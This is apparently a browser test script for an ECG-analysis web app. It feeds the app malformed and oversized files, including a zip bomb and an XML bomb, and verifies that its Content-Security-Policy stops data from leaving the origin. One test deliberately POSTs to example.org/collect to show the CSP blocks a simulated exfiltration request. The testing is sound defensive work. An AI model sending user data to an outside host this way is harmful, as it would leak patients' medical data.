#!/usr/bin/env node
// tests/web/reliability.mjs: the browser side of the reliability and privacy issue, on the built site
// (build/wasm/site) in Debian's Chromium, headless, driven by playwright-core like tests/web/e2e.mjs.
//
//   node tests/web/reliability.mjs [--site build/wasm/site] [--out build/reliability] [--only TEXT]
//
//   1. a dozen files of the crafted bad-input corpus (tests/bad-input, answers in EXPECTED.tsv) dropped one by
//      one: each shows its error in #kalium-result[data-error], and a good file dropped next still gives a K+;
//   2. a 600 MB file made in the page and dropped: the page survives, says why it refused, and still works;
//   3. privacy: the page's Content-Security-Policy allows only its own origin (and the browser enforces it),
//      and every request of a session of drops and predictions stays on the origin and carries no ECG bytes.
// Prints one line per test and a last line "reliability: N passed, N failed"; exits non-zero on any failure.
import fs from 'node:fs';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { chromium } from 'playwright-core';
import { startServer } from '../../scripts/serve.mjs';

const repo = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '..', '..');
const args = process.argv.slice(2);
const option = (name, fallback) => {
  const i = args.indexOf(name);
  return i >= 0 ? args[i + 1] : fallback;
};
const siteDir = path.resolve(repo, option('--site', 'build/wasm/site'));
const outDir = path.resolve(repo, option('--out', 'build/reliability'));
const only = option('--only', '');
const badDir = path.join(repo, 'tests', 'bad-input');
fs.mkdirSync(outDir, { recursive: true });

const CHROMIUM_ARGS = [
  '--headless=new', '--no-sandbox', '--use-angle=swiftshader', '--enable-unsafe-swiftshader',
  '--disable-background-networking', '--disable-component-update', '--disable-sync', '--no-first-run',
  '--disable-quic', '--disable-default-apps', '--mute-audio',
];
const READY_TIMEOUT_MS = 60000;
const ANALYSIS_TIMEOUT_MS = 30000;
const BIG_FILE_BYTES = 600 * 1024 * 1024;  // more than kalium's 512 MiB limit per file

// ---- a tiny test runner (as in e2e.mjs) ----------------------------------------------------------------
const tests = [];
const test = (name, fn) => tests.push({ name, fn });
function assert(condition, message) {
  if (!condition) throw new Error(message);
}

// Opens the app in a fresh context; records console errors, page errors, crashes and every request with its body.
async function openApp(browser, baseUrl) {
  const context = await browser.newContext({ viewport: { width: 1280, height: 800 } });
  const page = await context.newPage();
  const problems = [];
  const requests = [];
  page.on('console', (msg) => { if (msg.type() === 'error') problems.push(`console error: ${msg.text()}`); });
  page.on('pageerror', (err) => problems.push(`page error: ${err.message}`));
  page.on('crash', () => problems.push('the page crashed'));
  // the context's requests include the analysis worker's and the service worker's
  context.on('request', (req) => requests.push({ url: req.url(), method: req.method(), body: req.postDataBuffer() }));
  const response = await page.goto(baseUrl);
  await page.waitForFunction(() => (document.body.dataset.kaliumReady === 'true' && document.body.dataset.kaliumWorkerReady === 'true') ||
    document.body.dataset.kaliumError || document.body.dataset.kaliumWorkerError, null, { timeout: READY_TIMEOUT_MS });
  const error = await page.evaluate(() => document.body.dataset.kaliumError || document.body.dataset.kaliumWorkerError || '');
  assert(!error, `app reported a fatal error: ${error}`);
  return { context, page, problems, requests, response };
}

// Drops files (name -> Buffer) on the canvas the way a user's drag and drop delivers them.
async function dropFiles(page, files) {
  const payload = Object.entries(files).map(([name, buffer]) => ({ name, base64: buffer.toString('base64') }));
  const dataTransfer = await page.evaluateHandle((items) => {
    const dt = new DataTransfer();
    for (const { name, base64 } of items) {
      const bytes = Uint8Array.from(atob(base64), (c) => c.charCodeAt(0));
      dt.items.add(new File([bytes], name));
    }
    return dt;
  }, payload);
  await page.dispatchEvent('#canvas', 'dragover', { dataTransfer });
  await page.dispatchEvent('#canvas', 'drop', { dataTransfer });
}

// Waits until worklist entry `file` has finished; returns its row's data attributes.
async function finishedRow(page, file, timeout = ANALYSIS_TIMEOUT_MS) {
  const row = page.locator(`#kalium-worklist tbody tr[data-file="${file}"]:not([data-state="working"])`).first();
  await row.waitFor({ state: 'attached', timeout });
  return row.evaluate((el) => ({ ...el.dataset }));
}

// #kalium-result once it shows `file`.
async function resultFor(page, file) {
  await page.waitForFunction((n) => document.getElementById('kalium-result').dataset.file === n, file, { timeout: 5000 });
  return page.evaluate(() => {
    const el = document.getElementById('kalium-result');
    return { ...el.dataset, text: el.textContent };
  });
}

function manifest() {
  const out = new Map();
  for (const line of fs.readFileSync(path.join(badDir, 'EXPECTED.tsv'), 'utf8').split('\n')) {
    if (!line || line.startsWith('#')) continue;
    const [file, expected, phrase] = line.split('\t');
    out.set(file, { expected, phrase });
  }
  return out;
}
const corpusFile = (name) => fs.readFileSync(path.join(badDir, 'files', name));

// A good 12-lead ECG of our own corpus, under a fresh name each time so its worklist row can be told apart.
let goodCount = 0;
async function dropGoodAndExpectK(page) {
  const name = `good-${String(++goodCount).padStart(2, '0')}.csv`;
  await dropFiles(page, { [name]: corpusFile('csv-ok-12-leads.csv') });
  const row = await finishedRow(page, name);
  const shown = await resultFor(page, name);
  assert(row.state === 'done' && /^\d\.\d$|^[<>]/.test(row.kPlus || ''), `the good file after it: ${JSON.stringify(row)}`);
  assert(shown.error === '' && shown.kPlus === row.kPlus, `#kalium-result for the good file: ${JSON.stringify(shown)}`);
}

// ---- the tests ------------------------------------------------------------------------------------------
// A dozen bad files of every kind (WFDB pairs are dropped with their signal file).
const DOZEN = [
  'not-ecg-image.png', 'not-ecg-zip-bomb.zip', 'not-ecg-utf16-text.txt', 'not-ecg-empty.xml',
  'philips-xli-bomb.xml', 'philips-truncated.xml', 'wfdb-fs-1e9.hea', 'wfdb-1-lead.hea',
  'edf-24-hours-declared.edf', 'scp-truncated.scp', 'dicom-1e9-samples.dcm', 'csv-infinite-samples.csv',
];

test('a dozen bad-input files each show their error, and the next good file still gives a K+', async ({ browser, baseUrl }) => {
  const { context, page, problems } = await openApp(browser, baseUrl);
  const expected = manifest();
  const seen = [];
  for (const name of DOZEN) {
    const e = expected.get(name);
    assert(e && e.expected !== 'ok', `${name} is not a bad file of EXPECTED.tsv`);
    const files = { [name]: corpusFile(name) };
    const dat = name.replace(/\.hea$/, '.dat');
    if (dat !== name && fs.existsSync(path.join(badDir, 'files', dat))) files[dat] = corpusFile(dat);
    await dropFiles(page, files);
    const row = await finishedRow(page, name);
    const shown = await resultFor(page, name);
    seen.push(`${name}: ${shown.error}`);
    assert(row.state === 'failed', `${name}: state ${row.state} (expected failed): ${JSON.stringify(row)}`);
    assert(shown.error && shown.error === row.error && shown.text.includes(shown.error) && !shown.kPlus,
      `${name}: #kalium-result ${JSON.stringify(shown)}`);
    assert(shown.error.includes(e.phrase), `${name}: the message '${shown.error}' does not say '${e.phrase}'`);
    await dropGoodAndExpectK(page);
  }
  await page.screenshot({ path: path.join(outDir, 'after-bad-files.png') });
  await context.close();
  fs.writeFileSync(path.join(outDir, 'bad-file-messages.txt'), seen.join('\n') + '\n');
  assert(problems.length === 0, problems.join('; '));
});

test('a 600 MB file is refused with the reason; the page survives and the next file works', async ({ browser, baseUrl }) => {
  const { context, page, problems } = await openApp(browser, baseUrl);
  // Made inside the page (a zero-filled File), then dropped: nothing of that size crosses the test protocol.
  const dataTransfer = await page.evaluateHandle((bytes) => {
    const dt = new DataTransfer();
    dt.items.add(new File([new Uint8Array(bytes)], 'huge-600MB.edf'));
    return dt;
  }, BIG_FILE_BYTES);
  await page.dispatchEvent('#canvas', 'dragover', { dataTransfer });
  await page.dispatchEvent('#canvas', 'drop', { dataTransfer });
  await dataTransfer.dispose();
  const row = await finishedRow(page, 'huge-600MB.edf', 120000);
  const shown = await resultFor(page, 'huge-600MB.edf');
  assert(row.state === 'failed', `huge file: state ${row.state}`);
  assert(/more than kalium reads|limit|too large/i.test(shown.error) && shown.error.includes('huge-600MB.edf'),
    `the refusal does not say why: '${shown.error}'`);
  const alive = await page.evaluate(() => document.body.dataset.kaliumReady);
  assert(alive === 'true', 'the page is no longer ready after the huge file');
  await dropGoodAndExpectK(page);
  await page.screenshot({ path: path.join(outDir, 'after-huge-file.png') });
  await context.close();
  assert(problems.length === 0, problems.join('; '));
});

// Directives that fetch or send something: each may name only the page's own origin ('self'), or 'none'.
const FETCH_DIRECTIVES = ['default-src', 'script-src', 'style-src', 'img-src', 'connect-src', 'worker-src', 'manifest-src',
  'font-src', 'media-src', 'frame-src', 'child-src', 'object-src', 'form-action', 'base-uri'];
function checkPolicy(policy, where) {
  assert(policy, `${where}: no Content-Security-Policy`);
  const directives = new Map(policy.split(';').map((d) => d.trim().split(/\s+/)).filter((d) => d[0]).map((d) => [d[0], d.slice(1)]));
  assert(directives.has('default-src'), `${where}: no default-src in '${policy}'`);
  for (const [name, sources] of directives) {
    if (!FETCH_DIRECTIVES.includes(name)) continue;
    for (const s of sources) {
      // data: and blob: are the page's own bytes (images it draws); 'wasm-unsafe-eval' compiles its own wasm.
      const allowed = ["'self'", "'none'", "'wasm-unsafe-eval'"].includes(s) || (name === 'img-src' && ['data:', 'blob:'].includes(s));
      assert(allowed, `${where}: ${name} allows '${s}', which is not the page's own origin`);
    }
  }
  assert((directives.get('connect-src') || directives.get('default-src')).every((s) => ["'self'", "'none'"].includes(s)),
    `${where}: connect-src is not limited to 'self'`);
}

test('privacy: the CSP allows only the page\'s origin, and the browser blocks a request elsewhere', async ({ browser, baseUrl }) => {
  const { context, page, problems, response } = await openApp(browser, baseUrl);
  checkPolicy(response.headers()['content-security-policy'], 'response header');
  checkPolicy(await page.evaluate(() => document.querySelector('meta[http-equiv="Content-Security-Policy"]')?.content), '<meta>');
  // A script on the page trying to send data away is stopped by the policy (a violation, no request made).
  const outcome = await page.evaluate(async () => {
    const violations = [];
    document.addEventListener('securitypolicyviolation', (e) => violations.push(`${e.violatedDirective} ${e.blockedURI}`));
    let fetchError = '';
    try {
      await fetch('https://example.org/collect', { method: 'POST', body: 'ecg' });
    } catch (err) {
      fetchError = String(err);
    }
    await new Promise((r) => setTimeout(r, 200));
    return { fetchError, violations };
  });
  await context.close();
  assert(outcome.fetchError, 'a fetch to another origin was not refused');
  assert(outcome.violations.some((v) => v.startsWith('connect-src') && v.includes('example.org')),
    `no connect-src violation reported: ${JSON.stringify(outcome)}`);
  // The violation itself is reported to the console as an error by Chromium: only that is expected.
  const others = problems.filter((p) => !/Content Security Policy|Failed to fetch|example\.org/.test(p));
  assert(others.length === 0, others.join('; '));
});

test('privacy: in a session of drops and predictions no request leaves the origin or carries ECG bytes', async ({ browser, baseUrl }) => {
  const { context, page, problems, requests } = await openApp(browser, baseUrl);
  const origin = new URL(baseUrl).origin;
  const dropped = [corpusFile('csv-ok-12-leads.csv'), corpusFile('wfdb-ok-12-leads.hea'), corpusFile('wfdb-ok-12-leads.dat'),
    corpusFile('philips-ok-12-leads.xml'), corpusFile('not-ecg-image.png')];
  await dropFiles(page, { 'session-1.csv': dropped[0] });
  await finishedRow(page, 'session-1.csv');
  await dropFiles(page, { 'wfdb-ok-12-leads.hea': dropped[1], 'wfdb-ok-12-leads.dat': dropped[2] });
  await finishedRow(page, 'wfdb-ok-12-leads.hea');
  await dropFiles(page, { 'philips-ok-12-leads.xml': dropped[3], 'not-ecg-image.png': dropped[4] });
  await finishedRow(page, 'philips-ok-12-leads.xml');
  await finishedRow(page, 'not-ecg-image.png');
  await page.waitForTimeout(500);
  await context.close();
  assert(requests.length > 0, 'no requests recorded');
  const foreign = requests.filter((r) => !r.url.startsWith(origin + '/') && !r.url.startsWith('data:') && !r.url.startsWith('blob:'));
  assert(foreign.length === 0, `requests left the origin: ${foreign.map((r) => r.url).join(', ')}`);
  // No request sends the files: none has a body holding any 64-byte piece of them (nor a body at all, today).
  const withBody = requests.filter((r) => r.body && r.body.length > 0);
  for (const r of withBody) {
    for (const file of dropped) {
      for (let at = 0; at + 64 <= file.length; at += Math.max(64, Math.floor(file.length / 50))) {
        assert(!r.body.includes(file.subarray(at, at + 64)), `${r.method} ${r.url} carries bytes of a dropped file`);
      }
    }
  }
  assert(requests.every((r) => r.method === 'GET'), `non-GET requests: ${requests.filter((r) => r.method !== 'GET').map((r) => r.method + ' ' + r.url).join(', ')}`);
  fs.writeFileSync(path.join(outDir, 'session-requests.txt'), requests.map((r) => `${r.method} ${r.url} ${r.body ? r.body.length : 0}`).join('\n') + '\n');
  assert(problems.length === 0, problems.join('; '));
});

// ---- main -----------------------------------------------------------------------------------------------
async function main() {
  const chromiumPath = process.env.KALIUM_CHROMIUM || '/usr/bin/chromium';
  const { server, url: baseUrl } = await startServer({ root: siteDir, port: 0 });
  const browser = await chromium.launch({ executablePath: chromiumPath, args: CHROMIUM_ARGS });
  let passed = 0, failed = 0;
  for (const t of tests) {
    if (only && !t.name.includes(only)) continue;
    const started = Date.now();
    try {
      await t.fn({ browser, baseUrl });
      passed++;
      console.log(`  ok    ${t.name} (${Date.now() - started} ms)`);
    } catch (err) {
      failed++;
      console.log(`  FAIL  ${t.name}: ${err.message}`);
    }
  }
  await browser.close();
  server.close();
  console.log(`reliability: ${passed} passed, ${failed} failed`);
  process.exit(failed ? 1 : 0);
}

main().catch((err) => {
  console.error(`reliability: cannot run: ${err.message}`);
  console.log('reliability: 0 passed, 1 failed');
  process.exit(1);
});
